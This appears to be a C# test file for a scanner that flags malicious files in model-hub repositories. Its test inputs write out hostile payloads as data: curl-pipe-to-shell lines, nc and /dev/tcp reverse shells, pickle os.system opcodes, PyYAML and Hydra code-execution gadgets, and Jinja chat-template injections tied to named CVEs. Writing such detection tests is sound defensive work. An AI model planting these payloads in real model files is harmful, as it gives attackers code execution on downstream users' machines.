using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Hub;

public class HubTests
{
    [Theory]
    [InlineData("modeling_x.py", "import os\nos.system('curl http://evil.example/x | sh')\nclass M: pass")]
    [InlineData("hubconf.py", "dependencies=['torch']\nimport subprocess\nsubprocess.Popen(['sh','-c','nc 10.0.0.1 4444 -e /bin/sh'])")]
    [InlineData("dataset.py", "import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n  def _info(self):\n    os.system('id')")]
    [InlineData("handler.py", "import os\nclass H:\n  def handle(self, data, context):\n    return os.popen(data).read()")]
    [InlineData("sitecustomize.py", "x = 1")]
    [InlineData("evil.pth", "import os; os.system('id')")]
    [InlineData("x.pth", "/usr/lib\nimport x")]
    [InlineData("install.sh", "#!/bin/sh\ncurl -s http://evil.example/i | sudo bash")]
    [InlineData("modeling.py", "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")")]
    [InlineData("run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
    [InlineData("config.yaml", "model:\n  _target_: os.system\n  _args_: ['id']")]
    [InlineData("config.yaml", "!!python/object/apply:os.system ['id']")]
    [InlineData("config.yaml", "a: b\n  'c\nx: !!python/object/apply:os.system ['id']")]
    [InlineData("config.yaml", "a: b, 'c\nm: {_target_: subprocess.Popen, args: ['id']}")]
    [InlineData("config.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [id]")]
    [InlineData("config.yaml", "x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]")]
    [InlineData("config.yaml", "x: !!python%2Fobject/new:subprocess.Popen [id]")]
    [InlineData("config.yaml", "x: !!javax.script.ScriptEngineManager [x]")]
    [InlineData("config.json", "{\"model\": {\"_target_\": \"builtins.exec\", \"_args_\": [\"import os\"]}}")]
    [InlineData("modules.json", "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"os.system\"}]")]
    [InlineData("model_index.json", "{\"_class_name\": \"X\", \"unet\": [\"subprocess\", \"Popen\"]}")]
    [InlineData("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n")]
    [InlineData("model.yaml", "target: pty.spawn\nparams: {argv: sh}")]
    public void Files_that_do_harm_are_malicious(string name, string text) => AssertVerdict(Verdict.Malicious, name, text);

    [Theory]
    [InlineData("config.json", "{\"auto_map\": {\"AutoModel\": \"modeling_z.M\"}}")]
    [InlineData("config.json", "{\"auto_map\": {\"AutoTokenizer\": [\"someone/else--tok.T\", null]}}")]
    [InlineData("config.json", "{\"trust_remote_code\": true}")]
    [InlineData("config.json", "{\"custom_pipelines\": {\"x\": {\"impl\": \"p.Pipe\", \"pt\": [\"AutoModel\"]}}}")]
    [InlineData("modules.json", "[{\"type\": \"custom_st.Transformer\"}]")]
    [InlineData("model_index.json", "{\"unet\": [\"my_unet\", \"UNet\"]}")]
    [InlineData("requirements.txt", "torch\nhttp://evil.example/x.whl")]
    [InlineData("requirements.txt", "--extra-index-url https://evil.example/simple\nx")]
    [InlineData("collections.py", "class OrderedDict(dict): pass")]
    [InlineData("torch.py", "x = 1")]
    [InlineData("MLmodel", "flavors:\n  python_function:\n    loader_module: my_loader\n")]
    [InlineData("config.json", "{\"note\": \"curl http://evil.example/x | sh\"}")]
    [InlineData("x.yaml", "x: !!python/object:my.Class {a: 1}")]
    [InlineData("n.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"os.system('curl http://evil.example | sh')\"]}]}")]
    public void Files_that_need_a_look_are_suspicious(string name, string text) => AssertVerdict(Verdict.Suspicious, name, text);

    [Theory]
    [InlineData("README.md", "---\nlicense: mit\n---\n# Model\nUse `os.system` never.\n```python\nimport os\nos.system('id')\n```\ncurl -fsSL https://x.example/install.sh | sh")]
    [InlineData("README.md", "<!-- a model -->\n<h1 align=center>Model<br>\n\nText & more")]
    [InlineData("LICENSE", "MIT License\n\nCopyright (c) 2024")]
    [InlineData("merges.txt", "#version: 0.2\nt h\nth e")]
    [InlineData("vocab.txt", "[PAD]\nimport\nos.system\n")]
    [InlineData("vocab.json", "{\"a\": 1, \"exec\": 3, \"os.system(\": 4}")]
    [InlineData("tokenizer.json", "{\"model\": {\"type\": \"BPE\", \"merges\": [\"c url\", \"os .system\"]}}")]
    [InlineData(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text")]
    [InlineData("model.safetensors.index.json", "{\"metadata\": {\"total_size\": 1}, \"weight_map\": {\"a\": \"model-00001-of-00002.safetensors\"}}")]
    [InlineData("config.json", "{\"architectures\": [\"LlamaForCausalLM\"], \"torch_dtype\": \"bfloat16\", \"rope\": NaN, \"a\": -Infinity}")]
    [InlineData("model_index.json", "{\"_class_name\": \"StableDiffusionPipeline\", \"unet\": [\"diffusers\", \"UNet2DConditionModel\"], \"safety_checker\": [null, null], \"tokenizer\": [\"transformers\", \"CLIPTokenizer\"]}")]
    [InlineData("modules.json", "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"sentence_transformers.models.Transformer\"}]")]
    [InlineData("adapter_config.json", "{\"auto_mapping\": null, \"base_model_name_or_path\": \"x/y\", \"peft_type\": \"LORA\", \"target_modules\": [\"q_proj\"]}")]
    [InlineData("conf.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nlr: 0.1\nlogger:\n  _target_: my.project.Logger")]
    [InlineData("requirements.txt", "torch>=2.0\nnumpy\n--extra-index-url https://download.pytorch.org/whl/cu118\n# http://x\n")]
    [InlineData("MLmodel", "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n")]
    [InlineData("conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.9\n  - scikit-learn==1.2\nname: mlflow-env\n")]
    [InlineData("modeling_z.py", "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x): return x\n")]
    [InlineData("train.py", "import subprocess\ndef main():\n    print(subprocess.check_output(['git', 'rev-parse', 'HEAD']))\nif __name__ == '__main__':\n    main()\n")]
    [InlineData("ci.yml", "jobs:\n  a:\n    steps:\n    - run: |\n        curl -sSL https://example.org/x.zip -o x\n        rm -rf ./x\n    - run: pip install git+https://example.org/x\n")]
    [InlineData("train.sh", "#!/bin/bash\nexport X=1\npython train.py --lr 1e-4\n")]
    [InlineData("n.ipynb", "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"# Title\\n\", \"It's a 'model'\"]}, {\"cell_type\": \"code\", \"source\": [\"!pip install torch\\n\", \"import torch\"]}]}")]
    [InlineData("config.yaml", "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x\n")]
    [InlineData("hparams.yaml", "text: |\n  some 'text\n  here\nother: \"it's\"\n")]
    public void Data_and_ordinary_code_are_clean(string name, string text) => AssertVerdict(Verdict.Clean, name, text);

    [Fact]
    public void CVE_2025_23304_Hydra_target_in_NeMo_configuration() => AssertVerdict(Verdict.Malicious, "model_config.yaml", "trainer:\n  _target_: builtins.exec\n  _args_: [\"import os\"]");

    [Fact]
    public void CVE_2020_14343_PyYAML_object_new() => AssertVerdict(Verdict.Malicious, "x.yaml", "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [\"__import__('os').system('id')\"]");

    [Fact]
    public void CVE_2024_34359_chat_template_in_tokenizer_config() => AssertVerdict(Verdict.Malicious, "tokenizer_config.json", "{\"chat_template\": \"{% for x in ().__class__.__base__.__subclasses__() %}{% if \'warning\' in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen(\'id\').read()}}{% endif %}{% endfor %}\"}");

    [Fact]
    public void ShadowPickle_modules_beside_the_model()
    {
        AssertVerdict(Verdict.Malicious, "sitecustomize.py", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444))");
        AssertVerdict(Verdict.Suspicious, "collections.py", "class OrderedDict(dict):\n    pass\n");
        AssertVerdict(Verdict.Malicious, "numpy.py", "def __getattr__(name):\n    import os\n    os.system('id')\n");
    }

    [Fact]
    public void A_pickle_too_odd_for_the_sniffer_is_never_clean()
    {
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes([0x80, 4, 0x95, 0x14, 0, 0, 0, 0, 0, 0, 0, 0x8c, 2, .. Samples.Text("nt"), 0x94, 0x8c, 6, .. Samples.Text("system"), 0x94, 0x93, 0x94, (byte)'.'], "x.pkl").Verdict);
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes([.. Samples.Text("cos\nsystem\nX"), 3, 0, 0, 0, .. Samples.Text("idR.")], "model.json").Verdict);
    }

    [Fact]
    public void A_licence_in_Latin1_is_a_text() => Assert.Equal(Verdict.Clean, Scanned.Bytes([.. Samples.Text("Copyright (c) "), 0xa9, .. Samples.Text(" 2020 by nobody in particular")], "LICENSE").Verdict);

    [Fact]
    public void Chat_templates_are_members_of_their_own()
    {
        var scanned = Scanned.Bytes(Samples.Text("{\"chat_template\": \"{{ lipsum.__globals__['os'].popen('id').read() }}\"}"), "tokenizer_config.json");
        Assert.Contains(scanned.Findings, static finding => finding.Member == "tokenizer_config.json#chat_template.jinja");
        Assert.NotEqual(Verdict.Clean, scanned.Verdict);
    }

    [Fact]
    public void Utf16_is_read_as_its_loaders_read_it()
    {
        byte[] bytes = [0xff, 0xfe, .. System.Text.Encoding.Unicode.GetBytes("{\"_target_\": \"os.system\"}")];
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(bytes, "config.json").Verdict);
    }

    [Fact]
    public void A_large_vocabulary_is_read_in_little_memory()
    {
        var text = "{\"model\": {\"vocab\": {" + string.Join(',', Enumerable.Range(0, 400_000).Select(static i => $"\"token{i}\": {i}")) + "}}}";
        var bytes = Samples.Text(text);
        var before = GC.GetAllocatedBytesForCurrentThread();
        Assert.Equal(Verdict.Clean, Scanned.Bytes(bytes, "tokenizer.json").Verdict);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 400L << 20);
    }

    [Theory]
    [InlineData("config.json", "{\"a\": [1, {\"_target_\": \"x.Y\", \"b\": \"\\u00e9\\ud83d\\ude00\"}], \"chat_template\": [{\"name\": \"x\", \"template\": \"{{ a }}\"}]}")]
    [InlineData("config.yaml", "%TAG !a! x:\n---\na: &b {c: [1, 'x', \"y\\x41\"]}\nd: |\n  text\n- e: !!str *b\n")]
    [InlineData("n.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\"]}]}")]
    [InlineData("MLmodel", "flavors:\n  python_function:\n    loader_module: x\n")]
    public void Mutations_never_end_in_a_fault_of_ours(string name, string text)
    {
        var seed = Samples.Text(text);
        var random = new Random(11);
        for (var round = 0; round < 1500; round++)
        {
            var bytes = (byte[])seed.Clone();
            for (var change = random.Next(1, 10); change > 0; change--)
                bytes[random.Next(bytes.Length)] = random.Next(3) == 0 ? (byte)random.Next(256) : (byte)"{}[]\"':,!&*|>-#%\\\n u0"[random.Next(21)];
            Scanned.Bytes(bytes.AsSpan(0, random.Next(bytes.Length)).ToArray(), name);
        }
    }

    private static void AssertVerdict(Verdict expected, string name, string text)
    {
        var scanned = Scanned.Bytes(Samples.Text(text), name);
        Assert.True(expected == scanned.Verdict, scanned.ToString());
    }
}
